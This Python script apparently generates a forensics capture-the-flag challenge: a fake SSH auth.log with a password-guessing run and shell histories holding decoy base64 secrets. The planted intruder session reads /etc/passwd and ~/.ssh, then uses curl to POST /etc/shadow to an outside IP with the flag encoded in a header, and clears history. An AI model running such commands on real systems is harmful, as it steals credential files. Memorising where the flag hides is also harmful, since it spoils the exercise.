"""An auth.log with a password-guessing run that ends in one accepted login, and shell histories:
the intruder's session and the admins' own (decoy) use of encoded secrets."""

import base64
import random
import secrets
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

flag = sys.stdin.readline().strip()
rng = random.Random(secrets.randbits(64))
users = ["amartin", "bkowalski", "cnguyen", "dpatel", "ebrown"]
start = datetime(2026, 5, 1, tzinfo=timezone.utc) + timedelta(days=rng.randrange(120))
log, histories = [], {user: [] for user in users}


def ssh(when: datetime, text: str) -> None:
    log.append(
        (when, f"{when:%b %d %H:%M:%S} bank-app01 sshd[{rng.randrange(1000, 65000)}]: {text}")
    )


def fake() -> str:
    return "flag{" + secrets.token_hex(16) + "}"


def encoded(secret: str) -> str:
    return base64.b64encode(secret.encode()).decode()


def ip() -> str:
    return f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


for _ in range(60):  # ordinary logins of the staff, from the office network
    when, user = start + timedelta(seconds=rng.randrange(7 * 86400)), rng.choice(users)
    ssh(
        when,
        f"Accepted publickey for {user} from 10.20.0.{rng.randrange(2, 200)} port {rng.randrange(40000, 60000)} ssh2",
    )
    for _ in range(rng.randint(2, 6)):
        when += timedelta(seconds=rng.randrange(5, 600))
        histories[user].append(
            (
                when,
                rng.choice(
                    [
                        "ls -la",
                        "df -h",
                        "systemctl status app",
                        "tail -n 50 /var/log/app.log",
                        "git pull",
                        "uptime",
                    ]
                ),
            )
        )
    if rng.random() < 0.3:  # admins hand each other encoded secrets too
        histories[user].append(
            (when + timedelta(seconds=3), f"echo {encoded(fake())} | base64 -d > ~/.vault-token")
        )
attacker, victim = ip(), rng.choice(users)
when = start + timedelta(days=3, seconds=rng.randrange(86400))
for attempt in range(rng.randint(150, 300)):  # the password-guessing run
    when += timedelta(seconds=rng.uniform(0.5, 3))
    user = rng.choice([*users, "root", "admin", "oracle", "test"])
    ssh(
        when,
        f"Failed password for {'invalid user ' if user not in users else ''}{user} from {attacker} port {rng.randrange(30000, 60000)} ssh2",
    )
when += timedelta(seconds=2)
ssh(when, f"Accepted password for {victim} from {attacker} port {rng.randrange(30000, 60000)} ssh2")
for command in ["id", "uname -a", "cat /etc/passwd", "ls ~/.ssh"]:
    when += timedelta(seconds=rng.randrange(3, 40))
    histories[victim].append((when, command))
when += timedelta(seconds=rng.randrange(3, 40))
histories[victim].append(
    (
        when,
        f"curl -s -X POST https://{ip()}/u -H 'X-Auth: {encoded(flag)}' --data-binary @/etc/shadow",
    )
)
histories[victim].append((when + timedelta(seconds=9), "history -c"))
out = Path("out/agent")
(out / "histories").mkdir(parents=True)
(out / "auth.log").write_text("\n".join(text for _, text in sorted(log)) + "\n")
for user, entries in histories.items():
    lines = [f"#{int(t.timestamp())}\n{command}" for t, command in sorted(entries)]
    (out / "histories" / f"{user}.history").write_text("\n".join(lines) + "\n")
